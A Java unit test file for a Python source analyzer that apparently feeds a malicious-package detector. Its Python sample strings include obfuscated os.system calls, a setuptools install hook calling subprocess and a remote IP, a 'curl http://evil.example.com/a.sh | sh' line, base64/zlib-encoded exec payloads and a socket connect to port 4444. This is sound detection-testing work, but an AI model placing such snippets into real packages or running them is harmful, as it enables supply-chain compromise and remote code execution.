package dev.fang.featurize.analysis;

import static org.assertj.core.api.Assertions.assertThat;

import dev.fang.featurize.parser.ParsedFile;
import dev.fang.featurize.parser.PythonFrontEnd;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class RawTokenAnalyzerTest {

    private static final RawTokenAnalyzer RAW = new RawTokenAnalyzer();

    private static ParsedFile parse(String python) {
        return new PythonFrontEnd().parse("test.py", python.getBytes(StandardCharsets.UTF_8));
    }

    private static ModuleAnalysis raw(String python) {
        return RAW.analyze(parse(python));
    }

    private static List<String> calls(ModuleAnalysis a) {
        return a.apiUses().stream().filter(ApiUse::call).map(ApiUse::api).toList();
    }

    static Stream<Arguments> waysToWriteOsSystem() {
        return Stream.of(
                Arguments.of("import os\nos.system(c)", true),
                Arguments.of("from os import system\nsystem(c)", true),
                Arguments.of("import os\ndef f(c):\n    os.system(c)", true),
                Arguments.of("import os as o\no.system(c)", false),
                Arguments.of("from os import system as s\ns(c)", false),
                Arguments.of("from os import *\nsystem(c)", false),
                Arguments.of("__import__('os').system(c)", false),
                Arguments.of("import importlib\nimportlib.import_module('os').system(c)", false),
                Arguments.of("import os\ngetattr(os, 'system')(c)", false),
                Arguments.of("getattr(__import__('o'+'s'), 'sys'+'tem')(c)", false),
                Arguments.of("import os\nos.__dict__['system'](c)", false),
                Arguments.of("import os\nos.__getattribute__('system')(c)", false),
                Arguments.of("import os\nx = os.system\nx(c)", false),
                Arguments.of("m = __import__('os')\nm.system(c)", false),
                Arguments.of("import sys\nsys.modules['os'].system(c)", false),
                Arguments.of("import posix\nposix.system(c)", false),
                Arguments.of("import base64\n__import__(base64.b64decode('b3M=').decode()).system(c)", false));
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("waysToWriteOsSystem")
    void shouldFindOsSystemOnlyWhereItIsWrittenByItsName(String code, boolean writtenPlainly) {
        ModuleAnalysis full = Analyze.source(code);
        ModuleAnalysis raw = raw(code);

        assertThat(calls(full)).as("the full analyzer resolves every way").contains("os.system");
        if (writtenPlainly) {
            assertThat(calls(raw)).containsOnlyOnce("os.system");
        } else {
            assertThat(calls(raw)).doesNotContain("os.system");
        }
        assertThat(raw.apiUses()).allSatisfy(u -> assertThat(u.how()).isEmpty());
    }

    @Test
    void shouldReadImportsOverTheWholeFileAsRegularExpressionsWould() {
        String code = "def later(c):\n    return pickle.loads(c)\npickle.load(c)\nimport pickle\n";

        assertThat(calls(raw(code))).containsExactly("pickle.loads", "pickle.load");
        assertThat(calls(Analyze.source(code))).as("the full analyzer follows the order of module statements")
                .containsExactly("pickle.loads", "?.load");
    }

    @Test
    void shouldReportPlainCodeAsTheFullAnalyzerDoes() {
        String code = """
                import os, subprocess
                from urllib.request import urlopen
                from setuptools import setup
                from setuptools.command.install import install

                class PostInstall(install):
                    def run(self):
                        subprocess.Popen(['sh', '-c', 'id'], shell=True)
                        urlopen('http://203.0.113.7/x')

                os.system('curl http://evil.example.com/a.sh | sh')
                setup(name='demo', cmdclass={'install': PostInstall})
                """;
        ParsedFile parsed = parse(code);
        ModuleAnalysis full = Analyze.STRICT.analyze(parsed);
        ModuleAnalysis raw = RAW.analyze(parsed);

        assertThat(raw.apiUses()).isEqualTo(full.apiUses());
        assertThat(raw.strings()).isEqualTo(full.strings());
        assertThat(raw.classes()).isEqualTo(full.classes());
        assertThat(raw.classes().get(0).bases()).containsExactly("setuptools.command.install.install");
        assertThat(raw.classes().get(0).methods()).containsExactly("run");
        assertThat(calls(raw)).contains("subprocess.Popen", "urllib.request.urlopen", "os.system", "setuptools.setup");
    }

    @Test
    void shouldKeepStringLiteralsAsWrittenWithoutFoldingOrDecoding() {
        String code = """
                import base64, zlib
                host = 'ev' + 'il.example.com'
                url = base64.b64decode('aHR0cDovL2V2aWwuZXhhbXBsZS5jb20vYS5zaA==').decode()
                hexed = '\\x68\\x74\\x74\\x70'
                joined = 'http://' 'evil.example.com'
                exec(zlib.decompress(base64.b64decode('eJzLzC3ILypRyC/myi/WK64sLknN1VDPTFHX5AIAg0EI0w==')))
                """;
        ModuleAnalysis full = Analyze.source(code);
        ModuleAnalysis raw = raw(code);

        assertThat(Analyze.values(full)).contains("evil.example.com", "http://evil.example.com/a.sh", "http", "http://evil.example.com");
        assertThat(full.payloads()).isNotEmpty();
        assertThat(Analyze.values(raw)).containsExactly("ev", "il.example.com", "aHR0cDovL2V2aWwuZXhhbXBsZS5jb20vYS5zaA==",
                "\\x68\\x74\\x74\\x70", "http://", "evil.example.com", "eJzLzC3ILypRyC/myi/WK64sLknN1VDPTFHX5AIAg0EI0w==");
        assertThat(raw.strings()).noneMatch(StringConstant::decoded);
        assertThat(raw.payloads()).isEmpty();
        assertThat(calls(raw)).containsExactly("base64.b64decode", "builtins.exec", "zlib.decompress", "base64.b64decode");
    }

    @Test
    void shouldTellModuleLevelFromFunctionBodiesByIndentation() {
        String code = """
                import os
                os.getcwd()
                def quiet():
                    os.system('a')
                def inline(): os.popen('b')
                class Hook:
                    os.getlogin()
                    def run(self):
                        if True:
                            os.remove('c')
                os.listdir('.')
                """;
        ModuleAnalysis raw = raw(code);

        assertThat(raw.apiUses()).extracting(ApiUse::api, ApiUse::moduleLevel).containsExactly(
                org.assertj.core.groups.Tuple.tuple("os.getcwd", true),
                org.assertj.core.groups.Tuple.tuple("os.system", false),
                org.assertj.core.groups.Tuple.tuple("os.popen", false),
                org.assertj.core.groups.Tuple.tuple("os.getlogin", true),
                org.assertj.core.groups.Tuple.tuple("os.remove", false),
                org.assertj.core.groups.Tuple.tuple("os.listdir", true));
        assertThat(raw.classes()).singleElement().satisfies(c -> assertThat(c.methods()).containsExactly("run"));
    }

    @Test
    void shouldNameUnresolvedReceiversAndBasesAsTheFullAnalyzerDoes() {
        String code = """
                from distutils.command import build
                class Sneaky(install):
                    pass
                class Loud(build.build):
                    pass
                s.connect(('203.0.113.7', 4444))
                """;
        ModuleAnalysis raw = raw(code);
        ModuleAnalysis full = Analyze.source(code);

        assertThat(raw.classes()).extracting(ClassDef::bases).containsExactly(List.of("?:install"), List.of("distutils.command.build.build"));
        assertThat(raw.classes()).isEqualTo(full.classes());
        assertThat(calls(raw)).containsExactly("?.connect");
    }

    @Test
    void shouldCollectKeywordNamesOfTheCallTheyBelongTo() {
        ModuleAnalysis raw = raw("from setuptools import setup\nsetup(name='x', cmdclass=dict(install=C), dependency_links=[])\n");

        assertThat(raw.apiUses()).filteredOn(u -> u.api().equals("setuptools.setup")).singleElement()
                .satisfies(u -> assertThat(u.keywords()).containsExactly("name", "cmdclass", "dependency_links"));
        assertThat(raw.apiUses()).filteredOn(u -> u.api().equals("builtins.dict")).singleElement()
                .satisfies(u -> assertThat(u.keywords()).containsExactly("install"));
    }
}
